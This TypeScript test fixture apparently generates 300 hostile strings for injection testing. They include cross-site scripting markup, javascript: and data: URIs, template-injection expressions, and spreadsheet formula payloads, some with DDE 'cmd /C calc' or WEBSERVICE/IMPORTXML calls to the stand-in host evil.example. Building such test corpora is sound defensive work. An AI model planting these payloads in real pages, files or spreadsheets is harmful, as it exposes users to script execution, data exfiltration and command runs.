/** Where a text would go, or whom it would call, if a page, a spreadsheet or a document ran it. */
export const evilHost = 'evil.example'

const act = 'dna_was_here(1)'
const away = `https://${evilHost}/x`

const markup = [
  `<script>${act}</script>`,
  `<script src=${away}></script>`,
  `<img src=x onerror=${act}>`,
  `<img src=${away}.png>`,
  `<svg onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x></svg>`,
  `<body onload=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="${away}"></object>`,
  `<embed src="${away}">`,
  `<link rel=stylesheet href=${away}.css>`,
  `<style>@import '${away}.css'</style>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href=${away}/>`,
  `<form action=${away}><input name=a autofocus onfocus=${act}></form>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<a href="javascript:${act}">click</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<marquee onstart=${act}>`,
  `<input onfocus=${act} autofocus>`,
]
const breakouts = ['"', "'", '`', '</title>', '</textarea>', '</script>', '-->', ']]>', '*/', '&quot;', '%22', '\\x22'].map(
  (end, index) => `${end}${markup[index % markup.length]}`,
)
const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `vbscript:${act}`,
  `[link](javascript:${act})`,
  `![picture](${away}.png)`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `#{${act}}`,
  `<%= ${act} %>`,
  `{{#if x}}${act}{{/if}}`,
  `url(${away})`,
  `expression(${act})`,
  `;${act}//`,
  `#eval("${act}")`,
  `$x$ *b* _i_ @ref #import "a"`,
  '\u202e<script>\u202d',
  '\u200b<script>',
  '＜script＞',
]
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  `=HYPERLINK("${away}","click")`,
  `=WEBSERVICE("${away}")`,
  `=IMPORTXML("${away}","//a")`,
  `=IMAGE("${away}.png")`,
  `=DDE("cmd";"/C calc";"x")`,
  '=SUM(A1:A9)*cmd|x!A0',
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  `@HYPERLINK("${away}")`,
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '";=1+1',
  '",=1+1',
  "';=1+1;'",
]

const seeds = [...markup, ...breakouts, ...schemes, ...formulas]
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.toUpperCase().replaceAll('DNA_WAS_HERE', 'dna_was_here').replaceAll('EVIL.EXAMPLE', evilHost),
  (text) => `${text}${text}`,
]

/** Three hundred texts that are code, markup or formulas to whoever takes them for that. Each ends with its number, so that all differ. */
export const hostileTexts: readonly string[] = disguises
  .flatMap((disguise) => seeds.map(disguise))
  .slice(0, 300)
  .map((text, index) => `${text} ${index}`)
